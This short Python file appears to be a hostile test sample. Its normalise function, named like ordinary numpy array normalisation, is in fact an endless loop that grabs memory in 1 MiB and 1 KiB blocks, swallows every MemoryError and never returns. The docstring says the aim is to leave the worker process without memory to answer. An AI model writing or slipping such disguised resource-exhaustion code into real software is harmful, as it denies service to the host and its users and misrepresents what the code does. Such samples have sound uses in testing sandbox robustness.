"""Catches each MemoryError, keeps what it has, and asks for more for ever, so that the worker has no byte left to
answer with.
"""

import numpy as np


def double(x):
    return 2 * x


def normalise(a):
    kept = []
    while True:
        try:
            kept.append(bytearray(1 << 20))
        except MemoryError:
            try:
                kept.append(bytearray(1 << 10))
            except MemoryError:
                pass
    return a / a.sum(axis=0, keepdims=True)
